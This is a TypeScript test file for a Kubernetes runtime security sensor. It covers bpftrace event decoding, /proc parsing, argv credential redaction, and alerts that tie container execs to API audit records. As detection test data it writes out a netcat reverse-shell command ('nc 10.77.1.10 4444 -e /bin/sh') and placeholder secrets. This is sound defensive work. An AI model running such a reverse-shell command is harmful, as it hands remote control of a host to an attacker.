// The runtime sensor's pure parts: the bpftrace lines it decodes (and the hostile ones it must
// count, never crash on), the program it generates, /proc and mountinfo parsing, argv redaction,
// and the engine's joining of runtime execs to the API's pods/exec.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { SensorDecoder, fdKind } from '../../src/sources/runtime/decode.js';
import { kernelDev, nameIs, sensorProgram } from '../../src/sources/runtime/bpftrace.js';
import { mountFacts } from '../../src/sources/runtime/containers.js';
import { fdKindOfLink, parseStat } from '../../src/sources/runtime/procfs.js';
import { redactArgv } from '../../src/detect/runtime/redact.js';
import { RuntimeDetector } from '../../src/detect/runtime/engine.js';
import { DEFAULT_RUNTIME_SETTINGS } from '../../src/detect/runtime/rule.js';
import { runtimeRules } from '../../src/detect/runtime/rules/index.js';
import { APP, exec } from '../../src/detect/runtime/rules/examples.js';
import type { RuntimeAlert } from '../../src/detect/alert.js';

const line = (data: string): string => JSON.stringify({ type: 'printf', data: `${data}\n` });

test('an exec is joined with its argv pairs, and the first empty slot ends argv', () => {
  const d = new SensorDecoder(() => 1000);
  assert.deepEqual(d.line(line('A\t42\t0\tnc\t10.77.1.10')), []);
  assert.deepEqual(d.line(line('A\t42\t2\t4444\t-e')), []);
  assert.deepEqual(d.line(line('A\t42\t4\t/bin/sh\t')), []);
  const [e] = d.line(line('E\t42\t40\trunc\t0\t4026532386\t/bin/nc\t140777\t20620\t1\tnc'));
  assert.equal(e.kind, 'exec');
  if (e.kind !== 'exec') return;
  assert.deepEqual(e.argv, ['nc', '10.77.1.10', '4444', '-e', '/bin/sh']);
  assert.equal(e.parentComm, 'runc');
  assert.equal(e.stdin, 'socket');
  assert.equal(e.stdout, 'tty');
  assert.equal(e.fileless, false);
  assert.equal(d.stats.events, 1);
});

test('a memfd or deleted executable (no link left) is fileless; an exec with no argv record keeps its file name', () => {
  const d = new SensorDecoder();
  const [e] = d.line(line('E\t7\t1\tsh\t0\t4026532386\t/dev/fd/3\t10600\t10600\t0\tkworker'));
  assert.ok(e.kind === 'exec' && e.fileless && e.argv[0] === '/dev/fd/3');
});

test('hostile input is counted, never thrown: garbage, truncation, wrong counts, unknown records, lost events', () => {
  const d = new SensorDecoder();
  const bad = [
    'not json',
    '{"type":"printf","data":',
    JSON.stringify({ type: 'printf', data: 42 }),
    JSON.stringify([1, 2]),
    'null',
    line('E\t1\t2\t3'),
    line('E\tx\t2\trunc\t0\t1\t/bin/id\t0\t0\t1\tid'),
    line('C\t5\tnc\t0\t4026532386\t4\t10.0.0.1\t99999'),
    line('C\t5\tnc\t0\t4026532386\t9\t10.0.0.1\t80'),
    line('O\t5\tsh\t0\t4026532386\t99\t1\t0\t41\tx'),
    line('S\t5\tsh\t0\t4026532386\treboot\t0'),
    line('T\t5\text4'),
    line('Z\tunknown'),
    line('A\t5\t3\todd\tslot'),
    '\u0000\u0001\u0002',
  ];
  for (const b of bad) assert.deepEqual(d.line(b), [], b);
  assert.equal(d.stats.garbled, bad.length);
  // blank lines (bpftrace prints them at exit) are no input at all
  assert.deepEqual(d.line(''), []);
  assert.equal(d.stats.garbled, bad.length);
  d.line(JSON.stringify({ type: 'lost_events', data: { events: 17 } }));
  assert.equal(d.stats.lost, 17);
  assert.equal(d.stats.events, 0);
});

test('a mount is one event with its file-system type from the T record', () => {
  const d = new SensorDecoder();
  assert.deepEqual(d.line(line('S\t9\tmount\t0\t4026532455\tmount\t/dev/vda1')), []);
  const [e] = d.line(line('T\t9\text4'));
  assert.ok(e.kind === 'syscall' && e.call === 'mount' && e.detail === '/dev/vda1 type=ext4');
});

test('argv slots left over from a failed execve are counted and do not leak into the next exec', () => {
  const d = new SensorDecoder();
  d.line(line('A\t42\t0\t/nonexistent\t-x'));
  d.line(line('A\t42\t0\tid\t'));
  const [e] = d.line(line('E\t42\t40\trunc\t0\t4026532386\t/bin/id\t10600\t10600\t1\tid'));
  assert.ok(e.kind === 'exec');
  assert.deepEqual(e.kind === 'exec' && e.argv, ['id']);
  assert.equal(d.stats.orphanArgv, 1);
});

test('fd kinds from i_mode and from /proc links', () => {
  assert.equal(fdKind('140777'), 'socket');
  assert.equal(fdKind('20620'), 'tty');
  assert.equal(fdKind('10600'), 'pipe');
  assert.equal(fdKind('100644'), 'file');
  assert.equal(fdKind('0'), 'none');
  assert.equal(fdKind('zz'), 'none');
  assert.equal(fdKindOfLink('socket:[123]'), 'socket');
  assert.equal(fdKindOfLink('/dev/pts/0'), 'tty');
  assert.equal(fdKindOfLink('pipe:[9]'), 'pipe');
  assert.equal(fdKindOfLink(undefined), 'none');
});

test('/proc/PID/stat with spaces and parentheses in the command name', () => {
  const s = parseStat('1234 (my (odd) name) S 77 1234 1234 0 -1 4194560 100 0 0 0 250 30 0 0 20 0 1 0');
  assert.deepEqual(s, { comm: 'my (odd) name', ppid: 77, cpuTicks: 280 });
  assert.equal(parseStat('garbage'), undefined);
});

test('mountinfo: the root overlay upperdir and the token mount device', () => {
  const info = [
    '1500 1400 0:120 / / rw,relatime - overlay overlay rw,lowerdir=/l1:/l2,upperdir=/var/lib/c/snap/42/fs,workdir=/var/lib/c/snap/42/work',
    '1510 1500 0:41 / /var/run/secrets/kubernetes.io/serviceaccount ro,relatime - tmpfs tmpfs rw,size=100k',
  ].join('\n');
  assert.deepEqual(mountFacts(info), { upperDir: '/var/lib/c/snap/42/fs', tokenDevice: 41 });
  assert.deepEqual(mountFacts('nonsense'), { upperDir: '', tokenDevice: 0 });
});

test('stat device numbers map to the kernel dev_t the BPF program compares', () => {
  assert.equal(kernelDev(65024), 254 * 2 ** 20); // 254:0
  assert.equal(kernelDev(0x100301), 3 * 2 ** 20 + 0x101); // 3:257 (a minor above 255: its high bits sit above the major)
});

test('file names are tested in the kernel as one 64-bit load, with the NUL for short names', () => {
  assert.equal(nameIs('$n', '.ssh'), '($n & 0xffffffffff) == 0x6873732e');
  assert.match(nameIs('$n', 'core_pattern'), /^\$n == 0x[0-9a-f]+$/);
});

test('the program leaves out probes the kernel lacks and says which', () => {
  const all = new Set(['syscalls:sys_enter_mount', 'syscalls:sys_enter_setns', 'syscalls:sys_enter_ptrace']);
  const p = sensorProgram({ hostMntns: 4026531832, watched: [{ ino: 19, dev: 266338304, code: 1 }], tracepoints: all });
  assert.ok(p.missing.includes('init_module') && p.missing.includes('memfd_create'));
  assert.ok(!p.missing.includes('mount'));
  assert.match(p.text, /@w\[19, 266338304\] = 1;/);
  assert.match(p.text, /!= 4026531832/);
  assert.doesNotMatch(p.text, /sys_enter_init_module/);
});

test('argv in alerts never carries a credential', () => {
  assert.deepEqual(redactArgv(['mysql', '-u', 'root', '-pS3cretPassw0rd']), ['mysql', '-u', 'root', '-pS3c…[redacted]']);
  const out = redactArgv(['app', '--password', 'hunter2hunter2', 'AWS_SECRET_ACCESS_KEY=abcd1234abcd1234', '--token=ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa']);
  assert.ok(!out.join(' ').includes('hunter2hunter2') && !out.join(' ').includes('abcd1234abcd1234') && !out.join(' ').includes('ghp_aaaa'), out.join(' '));
  assert.deepEqual(redactArgv(['nc', '10.77.1.10', '4444']), ['nc', '10.77.1.10', '4444']);
});

function detector(audit: boolean, now: { t: number }) {
  const alerts: RuntimeAlert[] = [];
  const d = new RuntimeDetector({ rules: runtimeRules, settings: DEFAULT_RUNTIME_SETTINGS, node: 'kubemoat-insecure', emit: (a) => alerts.push(a), auditAttached: audit, auditGraceMs: 5_000, now: () => now.t });
  return { d, alerts };
}

test('with an audit stream, a runtime exec explained by a pods/exec raises no KM-RT-001; a reverse shell inside it carries the exec in its chain', () => {
  const now = { t: Date.parse('2026-12-07T09:00:00Z') };
  const { d, alerts } = detector(true, now);
  d.auditExec({ namespace: 'lab-apps', pod: 'app', container: 'app', command: ['sh'], auditID: 'a1b2c3d4-0000-4000-8000-000000000001', user: 'alice@example.com', time: now.t, timestamp: '2026-12-07T09:00:00.000000Z' });
  d.event(exec(APP, ['sh'], { pid: 500, stdin: 'pipe' }));
  d.event(exec(APP, ['sh'], { pid: 501, ppid: 500, parentComm: 'sh', stdin: 'socket', stdout: 'socket' }));
  now.t += 10_000;
  d.tick();
  assert.deepEqual(alerts.map((a) => a.ruleId), ['KM-RT-003']);
  assert.equal(alerts[0].chain?.[0].auditID, 'a1b2c3d4-0000-4000-8000-000000000001');
  assert.match(alerts[0].message, /alice@example\.com/);
});

test('with an audit stream, a runtime exec no pods/exec explains becomes critical after the grace (the kubelet door)', () => {
  const now = { t: Date.parse('2026-12-07T09:00:00Z') };
  const { d, alerts } = detector(true, now);
  d.event(exec(APP, ['id'], { pid: 600 }));
  d.tick();
  assert.equal(alerts.length, 0, 'held during the grace');
  assert.equal(d.pending, 1);
  now.t += 6_000;
  d.tick();
  assert.equal(alerts.length, 1);
  assert.equal(alerts[0].ruleId, 'KM-RT-001');
  assert.equal(alerts[0].severity, 'critical');
  assert.match(alerts[0].message, /bypassing the API server/);
});

test('a pods/exec that arrives after the runtime exec (webhook batching) still explains it', () => {
  const now = { t: Date.parse('2026-12-07T09:00:00Z') };
  const { d, alerts } = detector(true, now);
  d.event(exec(APP, ['id'], { pid: 700 }));
  now.t += 1_500;
  d.auditExec({ namespace: 'lab-apps', pod: 'app', container: 'app', command: ['id'], auditID: 'x', user: 'bob', time: Date.parse('2026-12-07T09:00:00Z'), timestamp: '' });
  now.t += 10_000;
  d.tick();
  d.flush();
  assert.deepEqual(alerts, []);
  assert.equal(d.stats.auditMatched, 1);
});

test('without an audit stream, a runtime exec is reported at once as high', () => {
  const now = { t: Date.parse('2026-12-07T09:00:00Z') };
  const { d, alerts } = detector(false, now);
  d.event(exec(APP, ['id'], { pid: 800 }));
  assert.deepEqual(alerts.map((a) => [a.ruleId, a.severity]), [['KM-RT-001', 'high']]);
});

test('workloads are named the way their controllers name pods', async () => {
  const { workloadOf } = await import('../../src/detect/runtime/baseline.js');
  assert.equal(workloadOf('web-7d9f8c6b5-x2x9q'), 'web');
  assert.equal(workloadOf('node-agent-4k8z2'), 'node-agent');
  assert.equal(workloadOf('db-0'), 'db');
  assert.equal(workloadOf('app'), 'app');
});

test('a baseline is learned, saved as editable YAML, reloaded as enforcing, and an edit is honoured', async () => {
  const { BaselineStore } = await import('../../src/detect/runtime/baseline.js');
  const { mkdtempSync, readFileSync, writeFileSync } = await import('node:fs');
  const { tmpdir } = await import('node:os');
  const { join } = await import('node:path');
  const dir = mkdtempSync(join(tmpdir(), 'km-baseline-'));
  const a = new BaselineStore(dir, 1_000);
  a.learn(APP, 0, { executable: '/bin/sleep' });
  a.learn(APP, 10, { destination: '10.77.1.10:6443' });
  assert.equal(a.view(APP, 500).state, 'learning');
  const v = a.view(APP, 2_000);
  assert.ok(v.state === 'enforcing' && v.executables.has('/bin/sleep') && !v.executables.has('/bin/wget'));
  const file = join(dir, 'lab-apps', 'app.app.yaml');
  const text = readFileSync(file, 'utf8');
  assert.match(text, /learnedUntil:/);
  assert.match(text, /- \/bin\/sleep/);
  writeFileSync(file, text.replace('- /bin/sleep', '- /bin/sleep\n  - /bin/wget'));
  const b = new BaselineStore(dir, 1_000);
  const w = b.view(APP, 0);
  assert.ok(w.state === 'enforcing' && w.executables.has('/bin/wget') && w.destinations.has('10.77.1.10:6443'));
  writeFileSync(join(dir, 'lab-apps', 'broken.app.yaml'), ': : :\n\t- [');
  assert.equal(new BaselineStore(dir, 1_000).loadProblems.length, 1);
});
